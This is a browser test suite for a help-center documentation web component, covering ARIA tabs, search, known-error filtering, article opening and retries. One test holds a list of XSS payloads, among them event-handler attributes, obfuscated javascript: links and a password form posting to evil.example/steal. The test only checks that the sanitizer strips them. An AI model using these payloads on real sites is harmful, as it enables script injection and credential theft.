import { expect, fixture, html, oneEvent, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import type { SupportBackend } from '../../src/api/backend.js';
import { HttpError } from '../../src/api/errors.js';
import '../../src/components/article-suggest/article-suggest.js';
import type { EqArticleSuggest } from '../../src/components/article-suggest/article-suggest.js';
import '../../src/components/documentation/documentation.js';
import type { EqDocumentation } from '../../src/components/documentation/documentation.js';
import type { EqArticleOpenEvent } from '../../src/events/article-open-event.js';
import type { EqArticleSolvedEvent } from '../../src/events/article-solved-event.js';
import { createInBrowserBackend, type InBrowserBackend } from '../../demo/server/in-browser.js';
import { runConfigSuite } from '../context/config.suite.js';
import { article, articleBackend, readable } from './article-fixtures.js';
import { payloadsHadTheirChance } from '../fixtures/hostile-dom.js';

const $ = <T extends Element = HTMLElement>(el: EqDocumentation, selector: string) =>
  el.shadowRoot!.querySelector<T>(selector);
const $$ = <T extends Element = HTMLElement>(el: EqDocumentation, selector: string) => [
  ...el.shadowRoot!.querySelectorAll<T>(selector),
];
const items = (el: EqDocumentation) => $$(el, '[part="item"]');
const tab = (el: EqDocumentation, section: string) => $<HTMLButtonElement>(el, `#tab-${section}`)!;
const body = (el: EqDocumentation) => $(el, '[part="body"]')!;

describe('<eq-documentation>', () => {
  let demo: InBrowserBackend;
  let backend: SupportBackend;
  before(async () => {
    demo = await createInBrowserBackend();
    backend = demo.client('demo-user-1');
  });

  it('browses the help center by section with ARIA tabs', async () => {
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${backend}></eq-documentation>`,
    );
    await waitUntil(() => items(el).length > 0, 'the articles are listed');
    expect(items(el)).to.have.length(demo.seed.articles.length);
    // Active known errors first.
    expect(readable(items(el)[0]!.querySelector('[part="badge"]'))).to.contain('Known error');

    const tablist = $(el, '[role="tablist"]')!;
    expect(tablist.getAttribute('aria-label')).to.equal('Sections');
    expect($$(el, '[role="tab"]').map((t) => readable(t))).to.deep.equal([
      'All',
      'Platform',
      'API',
      'Reports',
    ]);
    expect(tab(el, 'all').getAttribute('aria-selected')).to.equal('true');
    expect(tab(el, 'api').tabIndex).to.equal(-1);
    const panel = $(el, '[role="tabpanel"]')!;
    expect(panel.getAttribute('aria-labelledby')).to.equal('tab-all');
    await expect(el).to.be.accessible();

    tab(el, 'all').focus();
    await sendKeys({ press: 'ArrowRight' });
    await sendKeys({ press: 'ArrowRight' });
    await el.updateComplete;
    expect(el.section).to.equal('api');
    expect(el.shadowRoot!.activeElement).to.equal(tab(el, 'api'));
    expect(tab(el, 'api').getAttribute('aria-selected')).to.equal('true');
    expect(tab(el, 'api').tabIndex).to.equal(0);
    expect(panel.getAttribute('aria-labelledby')).to.equal('tab-api');
    const apiCount = demo.seed.articles.filter((a) => a.section === 'api').length;
    expect(items(el)).to.have.length(apiCount);
    await sendKeys({ press: 'End' });
    await el.updateComplete;
    expect(el.section).to.equal('reports');
    await sendKeys({ press: 'ArrowRight' });
    await el.updateComplete;
    expect(el.section).to.equal('all');
  });

  it('filters the known errors (the Known Error page) with their workarounds', async () => {
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${backend}></eq-documentation>`,
    );
    await waitUntil(() => items(el).length > 0);
    const toggle = $<HTMLButtonElement>(el, '[part="known-errors-toggle"]')!;
    const knownErrors = demo.seed.articles.filter((a) => a.knownError);
    expect(readable(toggle)).to.equal(`Known errors (${knownErrors.length})`);
    expect(toggle.getAttribute('aria-pressed')).to.equal('false');
    toggle.click();
    await el.updateComplete;
    expect(toggle.getAttribute('aria-pressed')).to.equal('true');
    expect(items(el)).to.have.length(knownErrors.length);
    for (const item of items(el)) {
      expect(item.querySelector('[part="badge"]')).to.not.equal(null);
      expect(item.querySelector('[part="workaround"]')).to.not.equal(null);
    }
    await expect(el).to.be.accessible();
  });

  it('searches with the same ranking as the suggestions', async () => {
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${backend} .debounce=${0}></eq-documentation>`,
    );
    await waitUntil(() => items(el).length > 0);
    const search = $<HTMLInputElement>(el, '#search')!;
    expect(readable($(el, 'label[for="search"]'))).to.equal('Search the documentation');
    search.focus();
    await sendKeys({ type: 'report task failed' });
    await waitUntil(() => readable($(el, '[role="status"]')).includes('match'));
    expect(readable(items(el)[0]!.querySelector('[part="link"]'))).to.contain(
      'Report Task ID … failed to load',
    );
    expect(items(el)[0]!.querySelectorAll('mark').length).to.be.greaterThan(1);
    expect(el.query).to.equal('report task failed');
  });

  it('opens an article from the list in the reading pane, and reports it', async () => {
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation
        .backend=${backend}
        .debounce=${0}
        query="floor price"
      ></eq-documentation>`,
    );
    await waitUntil(() => items(el).length > 1);
    const link = items(el)[1]!.querySelector<HTMLAnchorElement>('[part="link"]')!;
    setTimeout(() => link.click());
    const opened = await oneEvent<EqArticleOpenEvent>(el, 'eq-article-open');
    expect(opened.rank).to.equal(2);
    expect(opened.query).to.equal('floor price');
    expect(opened.source).to.equal('documentation');
    await waitUntil(() => $(el, '#article-title'), 'the article shows');
    expect(el.articleId).to.equal(opened.article.id);
    expect(readable($(el, '#article-title'))).to.equal(opened.article.title);
    await waitUntil(() => el.shadowRoot!.activeElement === $(el, '#article-title'), 'focus moves');
    expect(body(el).children.length).to.be.greaterThan(0);
    const helpLink = $<HTMLAnchorElement>(el, '[part="help-link"]')!;
    expect(helpLink.href).to.equal(opened.article.url);
    expect(helpLink.target).to.equal('_blank');
    expect(helpLink.rel).to.equal('noopener noreferrer');
    await expect(el).to.be.accessible();

    setTimeout(() => $<HTMLButtonElement>(el, '[part="solved-button"]')!.click());
    const solved = await oneEvent<EqArticleSolvedEvent>(el, 'eq-article-solved');
    expect(solved.article.id).to.equal(opened.article.id);
    expect(solved.rank).to.equal(2);
    expect(solved.query).to.equal('floor price');
    expect(solved.source).to.equal('documentation');

    $<HTMLButtonElement>(el, '[part="back"]')!.click();
    await el.updateComplete;
    expect(el.articleId).to.equal('');
    expect($(el, '[part="article"]')).to.equal(null);
    expect(el.shadowRoot!.activeElement?.getAttribute('data-article-id')).to.equal(
      opened.article.id,
    );
  });

  it('leaves the article to the host that cancels eq-article-open', async () => {
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${backend}></eq-documentation>`,
    );
    await waitUntil(() => items(el).length > 0);
    el.addEventListener('eq-article-open', (e) => e.preventDefault());
    items(el)[0]!.querySelector<HTMLElement>('[part="link"]')!.click();
    await el.updateComplete;
    expect(el.articleId).to.equal('');
    expect($(el, '[part="article"]')).to.equal(null);
  });

  it('opens the article given by article-id, with its known error and safe links', async () => {
    const known = demo.seed.articles.find(
      (a) => a.id === 'kb-deal-no-delivery-after-floor-update',
    )!;
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${backend} article-id=${known.id}></eq-documentation>`,
    );
    await waitUntil(() => $(el, '#article-title'), 'the article shows');
    expect(readable($(el, '#article-title'))).to.equal(known.title);
    expect(readable($(el, '[part="known-error"]'))).to.contain(known.knownError!.workaround);
    expect(readable($(el, '[part="known-error"]'))).to.contain('Investigating');
    // The body's headings nest under the article title.
    expect(body(el).querySelector('h2')).to.equal(null);
    expect(body(el).querySelector('h3')).to.not.equal(null);

    const guide = demo.seed.articles.find((a) => a.id === 'kb-deal-no-delivery')!;
    el.articleId = guide.id;
    await waitUntil(() => readable($(el, '#article-title')) === guide.title);
    const links = [...body(el).querySelectorAll('a')];
    expect(links.length).to.be.greaterThan(0);
    for (const a of links) {
      expect(a.target).to.equal('_blank');
      expect(a.rel).to.equal('noopener noreferrer');
    }
    // A link to another help article opens it here.
    const toKnownError = links.find((a) => a.href.endsWith(known.id))!;
    setTimeout(() => toKnownError.click());
    const opened = await oneEvent<EqArticleOpenEvent>(el, 'eq-article-open');
    expect(opened.article.id).to.equal(known.id);
    expect(opened.rank).to.equal(null);
    await waitUntil(() => readable($(el, '#article-title')) === known.title);
  });

  it('sanitizes a hostile article body and title: nothing runs', async () => {
    window.eqPwned = undefined;
    const hostileBody = `
      <h2 onclick="window.eqPwned='h2'">Steps</h2>
      <p style="position:fixed;inset:0">Covering the page</p>
      <img src=x onerror="window.eqPwned='img'">
      <img src="javascript:window.eqPwned='img-src'">
      <script>window.eqPwned='script'</script>
      <a id="js" href="javascript:window.eqPwned='link'">Click me</a>
      <a id="js2" href="jav&#x09;ascript:window.eqPwned='link2'">Or me</a>
      <a id="data" href="data:text/html,<script>parent.eqPwned='data'</script>">Data</a>
      <a id="relative" href="/articles/kb-other">Relative</a>
      <a id="mail" href="mailto:support@example.com">Mail</a>
      <iframe src="javascript:window.eqPwned='iframe'"></iframe>
      <form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.eqPwned='input'"><button>Send</button></form>
      <svg onload="window.eqPwned='svg'"><circle r="5"></circle></svg>
      <math><mi xlink:href="javascript:window.eqPwned='math'">x</mi></math>
      <details open ontoggle="window.eqPwned='details'"><summary>More</summary></details>
      <style>:host { display: none }</style>
      <object data="javascript:window.eqPwned='object'"></object>
      <embed src="javascript:window.eqPwned='embed'">
      <table><tr><td onmouseover="window.eqPwned='td'">Cell</td></tr></table>
      <p><code>&lt;script&gt;</code> stays text</p>`;
    const stub = articleBackend([
      article('evil', {
        title: `<img src=x onerror="window.eqPwned='title'">Evil`,
        url: 'https://help.example.com/articles/evil',
        body: hostileBody,
      }),
    ]);
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${stub} article-id="evil"></eq-documentation>`,
    );
    await waitUntil(() => body(el).childNodes.length > 0, 'the body renders');
    const content = body(el);
    expect(readable($(el, '#article-title'))).to.equal(
      `<img src=x onerror="window.eqPwned='title'">Evil`,
    );
    expect(
      content.querySelectorAll(
        'script, iframe, form, input, button, svg, math, details, style, object, embed',
      ),
    ).to.have.length(0);
    const images = content.querySelectorAll('img');
    expect(images).to.have.length(1);
    expect(images[0]!.getAttribute('src')).to.equal('https://help.example.com/articles/x');
    for (const element of content.querySelectorAll('*')) {
      for (const { name } of element.attributes) {
        expect(name.startsWith('on'), `${element.tagName} ${name}`).to.equal(false);
        expect(name).to.not.equal('style');
        expect(name).to.not.equal('id');
      }
    }
    const anchors = [...content.querySelectorAll('a')];
    expect(anchors.map((a) => a.getAttribute('href'))).to.deep.equal([
      null,
      null,
      null,
      'https://help.example.com/articles/kb-other',
      'mailto:support@example.com',
    ]);
    for (const a of anchors) {
      expect(a.target).to.equal('_blank');
      expect(a.rel).to.equal('noopener noreferrer');
    }
    expect(readable(content)).to.contain('<script> stays text');
    // Clicking what is left runs nothing either.
    for (const a of anchors.slice(0, 3)) a.click();
    content.querySelector('td')?.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    await payloadsHadTheirChance();
    expect(window.eqPwned).to.equal(undefined);
    expect(getComputedStyle(el).display).to.equal('block');
    await expect(el).to.be.accessible();
  });

  it('shares one cached article index with <eq-article-suggest>', async () => {
    let calls = 0;
    const counted: SupportBackend = {
      ...backend,
      listArticles: (...args) => {
        calls += 1;
        return backend.listArticles(...args);
      },
    };
    const host = await fixture<HTMLElement>(
      html`<div>
        <eq-documentation .backend=${counted}></eq-documentation>
        <eq-article-suggest .backend=${counted} .debounce=${0} query="deal"></eq-article-suggest>
      </div>`,
    );
    const documentation = host.querySelector('eq-documentation')!;
    const suggest = host.querySelector<EqArticleSuggest>('eq-article-suggest')!;
    await waitUntil(() => items(documentation).length > 0);
    await waitUntil(() => suggest.shadowRoot!.querySelectorAll('a[part="link"]').length > 0);
    expect(calls).to.equal(1);
  });

  it('shows why an article cannot be loaded, and retries', async () => {
    let fail = true;
    const stub = articleBackend([article('a', { title: 'Recovering article' })]);
    const flaky: SupportBackend = {
      ...stub,
      getArticle: (...args) =>
        fail
          ? Promise.reject(new HttpError(503, { title: 'Unavailable', status: 503 }))
          : stub.getArticle(...args),
    };
    const el = await fixture<EqDocumentation>(
      html`<eq-documentation .backend=${flaky} article-id="a"></eq-documentation>`,
    );
    await waitUntil(() => $(el, '[part="article"] [role="alert"]'), 'the error shows');
    expect(readable($(el, '[part="article"] [role="alert"]'))).to.contain('error 503');
    fail = false;
    $<HTMLButtonElement>(el, '[part="article"] .notice button')!.click();
    await waitUntil(() => readable($(el, '#article-title')) === 'Recovering article');
  });
});

runConfigSuite('eq-documentation');
